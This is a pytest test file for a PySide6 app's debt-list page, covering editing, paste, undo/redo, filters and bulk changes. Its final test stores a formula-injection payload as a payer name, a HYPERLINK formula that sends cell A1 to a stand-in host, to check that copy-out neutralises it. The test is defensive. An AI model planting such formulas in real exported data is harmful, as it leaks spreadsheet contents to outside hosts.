"""The lists page: editing cells, paste as one undo step, undo/redo in the database, filters, lists."""

from __future__ import annotations

import time
from datetime import date

import pytest
from PySide6.QtCore import QSettings, Qt
from PySide6.QtGui import QGuiApplication

from mypay_desk.domain.debts import DebtRecord
from mypay_desk.services.debt_table import DebtFilter
from mypay_desk.ui.context import AppContext
from mypay_desk.ui.lists.debt_model import ErrorRole
from mypay_desk.ui.pages.lists_page import ListsPage
from mypay_desk.ui.tasks import InlineTaskRunner

CF_OK = "RSSMRA80A01F205X"


def record(i: int, **kw) -> DebtRecord:
    values = dict(iud=f"TARI25-{i:05d}", debtor_type="F", debtor_code=CF_OK, debtor_name=f"ROSSI MARIO {i}",
                  amount_cents=10_000 + i, due_date=date(2025, 6, 30), debt_type="TARI",
                  causale=f"TARI 2025 rata unica {i}")
    values.update(kw)
    return DebtRecord(**values)


@pytest.fixture
def page(qtbot, workspace, ente, tmp_path):
    workspace.lists.create_list("TARI 2025", default_debt_type="TARI")
    lst = workspace.lists.lists()[0]
    workspace.lists.add_debts(lst.id, [record(i) for i in range(5)])
    settings = QSettings(str(tmp_path / "ui.ini"), QSettings.Format.IniFormat)
    ctx = AppContext(workspace, InlineTaskRunner(), settings)
    p = ListsPage(ctx)
    qtbot.addWidget(p)
    p.resize(1300, 700)
    p.show()
    return p


def cell(page, row, field):
    return page.model.index(row, page.model.column_index(field))


def stored(page, row):
    return page.ctx.ws.lists.get_debt(page.model.row_id(row))


def test_page_shows_lists_and_debts(page, qtmodeltester):
    assert page.lists_model.rowCount() == 1
    assert page.lists_model.index(0, 0).data() == "TARI 2025"
    assert page.model.rowCount() == 5
    assert cell(page, 0, "iud").data() == "TARI25-00000"
    assert cell(page, 0, "amount_cents").data() == "100,00"
    qtmodeltester.check(page.model)
    qtmodeltester.check(page.lists_model)
    qtmodeltester.check(page.lists_proxy)


def test_editing_a_cell_stores_it_and_marks_validation(page):
    idx = cell(page, 1, "debtor_code")
    assert idx.data(ErrorRole) == ""
    assert page.model.setData(idx, "rssmra80a01f205y")  # wrong check character, upper-cased
    row = stored(page, 1)
    assert row.debtor_code == "RSSMRA80A01F205Y"
    assert not row.is_valid
    assert "controllo" in idx.data(ErrorRole)
    assert idx.data(Qt.ItemDataRole.BackgroundRole) is not None
    assert "controllo" in cell(page, 1, "errors").data()
    # fix it again: the mark goes away
    page.model.setData(idx, CF_OK)
    assert stored(page, 1).is_valid
    assert idx.data(ErrorRole) == ""


def test_amount_and_date_cells_parse_italian_text(page):
    page.model.setData(cell(page, 0, "amount_cents"), "1.234,56")
    page.model.setData(cell(page, 0, "due_date"), "31/12/2025")
    row = stored(page, 0)
    assert row.amount_cents == 123456
    assert row.due_date == date(2025, 12, 31)
    assert cell(page, 0, "amount_cents").data() == "1.234,56"
    # an unreadable amount is refused (nothing stored) with a message in the status line
    assert not page.model.setData(cell(page, 0, "amount_cents"), "dodici")
    assert stored(page, 0).amount_cents == 123456
    assert "Importo" in page.message_label.text()


def test_paste_block_is_one_undo_step_and_undo_redo_restore_the_db(page):
    stack = page.controller.undo_stack
    start = stack.count()
    col = page.model.column_index("debtor_name")
    page.controller.paste([["BIANCHI LUCA", "12,50"], ["VERDI ANNA", "1.000"]], 1, col, [])
    assert stack.count() == start + 1
    assert [stored(page, r).debtor_name for r in (1, 2)] == ["BIANCHI LUCA", "VERDI ANNA"]
    assert stored(page, 2).amount_cents == 100_000
    stack.undo()
    assert [stored(page, r).debtor_name for r in (1, 2)] == ["ROSSI MARIO 1", "ROSSI MARIO 2"]
    assert stored(page, 2).amount_cents == 10_002
    assert cell(page, 1, "debtor_name").data() == "ROSSI MARIO 1"
    stack.redo()
    assert stored(page, 2).debtor_name == "VERDI ANNA"


def test_copy_writes_tsv_and_paste_reads_it(page):
    view = page.view
    sm = view.selectionModel()
    from PySide6.QtCore import QItemSelection, QItemSelectionModel

    a = cell(page, 0, "debtor_name")
    b = cell(page, 1, "email")
    sm.select(QItemSelection(a, b), QItemSelectionModel.SelectionFlag.ClearAndSelect)
    view.copy_selection()
    text = QGuiApplication.clipboard().text()
    lines = text.split("\r\n")
    assert lines[0].split("\t")[0] == "ROSSI MARIO 0"
    assert len(lines[0].split("\t")) == page.model.column_index("email") - page.model.column_index("debtor_name") + 1
    # paste the two copied rows onto rows 3-4
    view.setCurrentIndex(cell(page, 3, "debtor_name"))
    sm.select(cell(page, 3, "debtor_name"), QItemSelectionModel.SelectionFlag.ClearAndSelect)
    view.paste()
    assert stored(page, 3).debtor_name == "ROSSI MARIO 0"
    assert stored(page, 4).debtor_name == "ROSSI MARIO 1"


def test_one_value_fills_the_selection(page):
    col = page.model.column_index("city")
    page.controller.paste([["COMO"]], 0, col, [(0, col, 4, col)])
    assert {stored(page, r).city for r in range(5)} == {"COMO"}
    assert page.controller.undo_stack.count() == 1


def test_paste_below_the_end_adds_debts_and_undo_removes_them(page):
    col = page.model.column_index("iud")
    grid = [[f"NEW-{i}", "F", CF_OK, f"NUOVO {i}", "5,00", "30/09/2025"] for i in range(3)]
    page.controller.paste(grid, 5, col, [])
    assert page.model.rowCount() == 8
    assert cell(page, 7, "debtor_name").data() == "NUOVO 2"
    assert stored(page, 7).debt_type == "TARI"  # the list's default tipo
    page.controller.undo_stack.undo()
    assert page.model.rowCount() == 5
    page.controller.undo_stack.redo()
    assert page.model.rowCount() == 8


@pytest.mark.slow
def test_paste_of_10000_rows_is_one_step(page):
    n = 10_000
    col = page.model.column_index("iud")
    grid = [[f"P{i:06d}", "F", CF_OK, f"COGNOME NOME {i}", "12,50", "30/06/2025", "TARI", f"TARI 2025 {i}", "",
             "VIA ROMA", "1", "20100", "MILANO", "MI", "IT"] for i in range(n)]
    t = time.perf_counter()
    page.controller.paste(grid, 5, col, [])
    elapsed = time.perf_counter() - t
    assert page.model.rowCount() == n + 5
    assert page.controller.undo_stack.count() == 1
    last = stored(page, n + 4)
    assert (last.iud, last.amount_cents, last.is_valid) == (f"P{n - 1:06d}", 1250, True)
    # paste again over the same rows: updates, one step, then undo restores them
    grid2 = [[f"COGNOME2 {i}"] for i in range(n)]
    page.controller.paste(grid2, 5, page.model.column_index("debtor_name"), [])
    assert page.controller.undo_stack.count() == 2
    assert stored(page, n + 4).debtor_name == f"COGNOME2 {n - 1}"
    page.controller.undo_stack.undo()
    assert stored(page, n + 4).debtor_name == f"COGNOME NOME {n - 1}"
    print(f"paste of {n} new rows: {elapsed:.2f} s")


def test_filters_by_text_tipo_and_state(page):
    ws = page.ctx.ws
    lst = ws.lists.lists()[0]
    ws.lists.add_debts(lst.id, [record(100, debtor_name="VERDI ANNA", debt_type="MENSA", due_date=date(2025, 9, 1))])
    page.refresh_lists()
    page.controller.reload()
    assert page.model.rowCount() == 6
    page.filter_bar.text.setText("verdi")
    page.filter_bar.flush()
    assert page.model.rowCount() == 1
    assert cell(page, 0, "debtor_name").data() == "VERDI ANNA"
    assert "su 6" in page.status.text()
    page.filter_bar.clear()
    assert page.model.rowCount() == 6
    page.controller.set_filter(DebtFilter(debt_types=("MENSA",)))
    assert page.model.rowCount() == 1
    page.controller.set_filter(DebtFilter(due_from=date(2025, 8, 1)))
    assert page.model.rowCount() == 1
    page.controller.set_filter(DebtFilter(valid=False))
    assert page.model.rowCount() == 0
    page.controller.set_filter(DebtFilter())
    page.model.sort(page.model.column_index("debtor_name"), Qt.SortOrder.DescendingOrder)
    assert cell(page, 0, "debtor_name").data() == "VERDI ANNA"


def test_bulk_change_is_one_undo_step(page):
    from mypay_desk.ui.lists.bulk_dialog import BulkChoice

    ids = list(page.model.ids())
    page.run_bulk(BulkChoice(operation="amount_percent", scope="filtered", percent=__import__("decimal").Decimal(10)),
                  ids)
    assert stored(page, 0).amount_cents == 11_000
    assert page.controller.undo_stack.count() == 1
    page.controller.undo_stack.undo()
    assert stored(page, 0).amount_cents == 10_000
    page.run_bulk(BulkChoice(operation="causale", scope="filtered", template="TARI {anno} - {nome}", year=2025), ids)
    assert stored(page, 2).causale == "TARI 2025 - ROSSI MARIO 2"
    page.run_bulk(BulkChoice(operation="cancel", scope="selection"), ids[:2])
    assert stored(page, 0).state == "ANNULLATO"
    page.controller.undo_stack.undo()
    assert stored(page, 0).state == "NUOVO"


def test_create_rename_delete_list(page, monkeypatch):
    from PySide6.QtWidgets import QInputDialog, QMessageBox

    monkeypatch.setattr(QInputDialog, "getText", lambda *a, **k: ("Mensa 2025", True))
    monkeypatch.setattr(QInputDialog, "getItem", lambda *a, **k: ("MENSA", True))
    page.create_list()
    names = {s.name for s in page.ctx.ws.lists.lists()}
    assert names == {"TARI 2025", "Mensa 2025"}
    assert page.controller.list_name == "Mensa 2025"
    assert page.model.rowCount() == 0
    monkeypatch.setattr(QInputDialog, "getText", lambda *a, **k: ("Mensa 2025/26", True))
    page.rename_list()
    assert "Mensa 2025/26" in {s.name for s in page.ctx.ws.lists.lists()}
    monkeypatch.setattr(QMessageBox, "question", lambda *a, **k: QMessageBox.StandardButton.Yes)
    page.delete_list()
    assert {s.name for s in page.ctx.ws.lists.lists()} == {"TARI 2025"}


def test_column_widths_are_remembered(page, workspace, tmp_path):
    page.view.setColumnWidth(page.model.column_index("causale"), 333)
    page.save_view_state()
    again = ListsPage(AppContext(workspace, InlineTaskRunner(), page.ctx.settings))
    assert again.view.columnWidth(again.model.column_index("causale")) == 333
    again.close()


def test_enter_commits_and_moves_down_tab_moves_right(page, qtbot):
    from PySide6.QtTest import QTest

    view = page.view
    view.setFocus()
    start = cell(page, 1, "debtor_name")
    view.setCurrentIndex(start)
    QTest.keyClicks(view, "N")  # typing starts editing
    from PySide6.QtWidgets import QLineEdit

    editor = view.findChild(QLineEdit, "debtor_nameEditor")
    assert editor is not None and editor.text() == "N"
    QTest.keyClicks(editor, "ERI PAOLO")
    QTest.keyClick(editor, Qt.Key.Key_Return)  # Qt commits on the next turn of the event loop
    qtbot.waitUntil(lambda: stored(page, 1).debtor_name == "NERI PAOLO", timeout=2000)
    assert view.currentIndex().row() == 2 and view.currentIndex().column() == start.column()
    QTest.keyClick(view, Qt.Key.Key_Tab)
    assert view.currentIndex().column() == start.column() + 1


def test_detail_dialog_edits_fields_and_instalments_as_undoable_steps(page, monkeypatch):
    from mypay_desk.ui.lists import detail_dialog

    def fake_exec(dlg):
        dlg.editors["debtor_name"].setText("ROSSI MARIA")
        dlg.split.setChecked(True)
        dlg.n_spin.setValue(3)
        dlg._split_equal()
        dlg.accept()
        return detail_dialog.DebtDetailDialog.DialogCode.Accepted

    monkeypatch.setattr(detail_dialog.DebtDetailDialog, "exec", fake_exec)
    page.view.setCurrentIndex(cell(page, 0, "iud"))
    page.open_detail()
    debt_id = page.model.row_id(0)
    assert stored(page, 0).debtor_name == "ROSSI MARIA"
    rate = page.ctx.ws.lists.instalments(debt_id)
    assert [r.amount_cents for r in rate] == [3334, 3333, 3333]
    assert rate[0].due_date == date(2025, 6, 30) and rate[2].due_date == date(2025, 8, 30)
    assert cell(page, 0, "instalment_count").data() == "3"
    page.controller.undo_stack.undo()  # the instalments
    assert page.ctx.ws.lists.instalments(debt_id) == []
    page.controller.undo_stack.undo()  # the name
    assert stored(page, 0).debtor_name == "ROSSI MARIO 0"


def test_a_formula_like_name_is_copied_as_text_and_pasted_back_unchanged(page, qtbot):
    """A payer named like a formula reaches Excel as text (apostrophe), and comes back here as it was."""
    from PySide6.QtCore import QItemSelection, QItemSelectionModel

    from mypay_desk.ui.lists.clipboard import parse_tsv, to_tsv

    hostile = '=HYPERLINK("http://x.example/?"&A1;"clic")'
    page.controller.paste([[hostile]], 0, page.model.column_index("debtor_name"), [])
    qtbot.waitUntil(lambda: stored(page, 0).debtor_name == hostile, timeout=3000)
    view = page.view
    a = cell(page, 0, "debtor_name")
    view.selectionModel().select(QItemSelection(a, a), QItemSelectionModel.SelectionFlag.ClearAndSelect)
    view.copy_selection()
    copied = QGuiApplication.clipboard().text()
    assert copied.startswith("'=HYPERLINK") or copied.startswith("\"'=HYPERLINK")
    view.setCurrentIndex(cell(page, 2, "debtor_name"))
    view.selectionModel().select(cell(page, 2, "debtor_name"), QItemSelectionModel.SelectionFlag.ClearAndSelect)
    view.paste()
    qtbot.waitUntil(lambda: stored(page, 2).debtor_name == hostile, timeout=3000)
    # plain numbers and texts are copied as they are
    assert to_tsv([["-12,50", "ROSSI", "+39 02 1234"]]) == "-12,50\tROSSI\t'+39 02 1234\r\n"
    assert parse_tsv("'-12\t'=1+1\t'abc\r\n") == [["'-12", "=1+1", "'abc"]]
